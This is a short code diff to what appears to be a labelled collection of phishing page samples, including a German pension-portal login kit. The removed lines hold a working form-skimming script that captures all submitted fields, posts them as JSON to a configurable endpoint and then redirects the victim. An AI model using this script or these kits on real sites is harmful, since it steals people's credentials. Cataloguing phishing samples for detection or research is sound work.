@@ -2,12 +2,6 @@ import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { doc, mark, footerDe, b64, rb64 } from '../parts/zv-kit.js';
 import { jsRoute, jsonRoute } from '../parts/e-bin.js';
 
-const relay = (endpoint: string, next: string) => `<script>
-document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();
-var f=new FormData(this),o={};f.forEach(function(v,k){o[k]=v});o.ua=navigator.userAgent;o.t=Date.now();
-fetch('${endpoint}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).finally(function(){location.href='${next}'});});
-</script>`;
-
 export const entries: Entry[] = [
 {
   id: 'zv-drv-rentenbescheid-login', label: 'phishing', kind: 'pension-portal-kit',
